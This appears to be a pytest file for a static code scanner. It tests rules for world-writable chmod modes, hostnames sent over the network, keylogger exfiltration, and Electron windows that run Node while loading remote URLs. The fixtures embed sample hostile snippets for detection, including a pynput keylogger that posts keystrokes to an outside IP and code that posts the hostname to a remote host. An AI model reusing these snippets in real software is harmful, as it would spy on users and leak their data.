"""Behaviour rules of session 5 (langs): world-writable modes (`bits`, octal literals), reflected host identity sent."""
from __future__ import annotations

import pytest

from codescan.analyze.document import Analyzer
from codescan.analyze.semantics.lang.script_consts import script_int
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules
from codescan.rules_facts import FactRuleError, parse_condition

RULES = load_rules()


def found(path: str, code: str) -> list[tuple[int, str, str]]:
    analyzer = Analyzer(RULES, Config(honour_suppressions=False))
    return sorted((f.line, f.rule_id, f.severity)
                  for f in analyzer.analyze(Document(path=path, content=code.encode())).findings
                  if f.rule_id == "world-writable-permissions")


def test_script_octal_literals():
    assert [script_int(t) for t in ("0777", "0o666", "0x1f", "0b101", "755", "0", "1_000")] == \
        [0o777, 0o666, 31, 5, 755, 0, 1000]
    with pytest.raises(ValueError):
        script_int("09")


def test_bits_must_be_a_positive_mask():
    assert parse_condition({"bits": 2}, "r").bits == 2
    for bad in (0, -1, True, "2"):
        with pytest.raises(FactRuleError):
            parse_condition({"bits": bad}, "r")


@pytest.mark.parametrize("path, code", [
    ("a.py", "import os\nMODE = 0o700 | 0o077\nos.chmod('/srv/app', MODE)\n"),
    ("a.go", 'package m\nimport "os"\nfunc f() {\n\tos.Chmod("/srv/app", 0o777)\n}\n'),
    ("a.php", "<?php\n$m = 0777;\nchmod('/srv/app', $m);\n"),
])
def test_a_mode_held_in_a_variable_or_written_in_any_octal_form(path, code):
    line = code.count("\n", 0, code.index("hmod"))
    assert found(path, code) == [(line + 1, "world-writable-permissions", "high")]
    assert found("tests/" + path, code) == [(line + 1, "world-writable-permissions", "medium")]


@pytest.mark.parametrize("path, code, line", [
    ("a.js", "const os = require('os');\nconst https = require('https');\nconst h = Reflect.get(os, 'hostname')();\n"
             "https.request({hostname: 'c.example.net', path: '/?h=' + h}).end();\n", 4),
    ("a.py", "import socket, requests\nh = getattr(socket, 'gethost' + 'name')()\n"
             "requests.post('https://c.example.net/b', data={'h': h})\n", 3),
])
def test_host_identity_read_through_reflection_and_sent_is_high(path, code, line):
    analyzer = Analyzer(RULES, Config(honour_suppressions=False))
    got = {(f.line, f.severity) for f in analyzer.analyze(Document(path=path, content=code.encode())).findings
           if f.rule_id == "host-identity-sent-over-network"}
    assert got == {(line, "high")}
    plain = code.replace("Reflect.get(os, 'hostname')()", "os.hostname()").replace(
        "getattr(socket, 'gethost' + 'name')()", "socket.gethostname()")
    got = {(f.line, f.severity) for f in analyzer.analyze(Document(path=path, content=plain.encode())).findings
           if f.rule_id == "host-identity-sent-over-network"}
    assert got == {(line, "medium")}


def test_together_scope_is_function_or_file_and_only_with_together():
    from codescan.rules_facts import parse_facts
    pair = [{"callee": "a.b"}, {"callee": "c.d"}]
    assert parse_facts({"together": pair, "scope": "file"}, "t").scope == "file"
    assert parse_facts({"together": pair}, "t").scope == "function"
    with pytest.raises(FactRuleError):
        parse_facts({"together": pair, "scope": "module"}, "t")
    with pytest.raises(FactRuleError):
        parse_facts({"sink": {"callee": "a.b"}, "scope": "file"}, "t")


def _one_rule(rule_id: str, path: str, code: str) -> list[tuple[int, str]]:
    """(line, severity) of what one rule reports on `code` analyzed as the file `path`."""
    analyzer = Analyzer(RULES.select((rule_id,), ()), Config(honour_suppressions=False))
    return [(f.line, f.severity) for f in analyzer.analyze(Document(path=path, content=code.encode())).findings]


def _keylogger_findings(code: str) -> list[tuple[int, str]]:
    return _one_rule("keystrokes-sent-over-network", "k.py", code)


def test_keylogger_callback_and_timer_sender_in_different_functions_are_one_behaviour():
    code = ("import threading, requests\nfrom pynput import keyboard\nLOG = []\n"
            "def on_press(key):\n    LOG.append(str(key))\n"
            "def flush():\n    requests.post('https://203.0.113.9/k', data=''.join(LOG))\n"
            "    threading.Timer(60, flush).start()\n"
            "keyboard.Listener(on_press=on_press).start()\n")
    assert _keylogger_findings(code) == [(9, "critical")]
    quiet = code.replace("    requests.post('https://203.0.113.9/k', data=''.join(LOG))\n", "    print(LOG)\n")
    assert quiet != code and _keylogger_findings(quiet) == []


def _electron_findings(code: str) -> list[tuple[int, str]]:
    return _one_rule("electron-node-window-loads-remote", "main.js", code)


def test_node_window_options_built_in_variables_and_a_window_loaded_from_another_function():
    code = ("const { BrowserWindow } = require('electron');\n"
            "const base = { nodeIntegration: true };\n"
            "const opts = { show: false, webPreferences: { ...base, contextIsolation: false } };\n"
            "let win;\n"
            "function make() { win = new BrowserWindow(opts); }\n"
            "function show() { win.loadURL('https://panel.example.net/'); }\n")
    assert _electron_findings(code) == [(5, "high")]
    local = code.replace("win.loadURL('https://panel.example.net/')", "win.loadFile('index.html')")
    assert _electron_findings(local) == []
    isolated = code.replace("nodeIntegration: true", "nodeIntegration: false")
    assert _electron_findings(isolated) == []
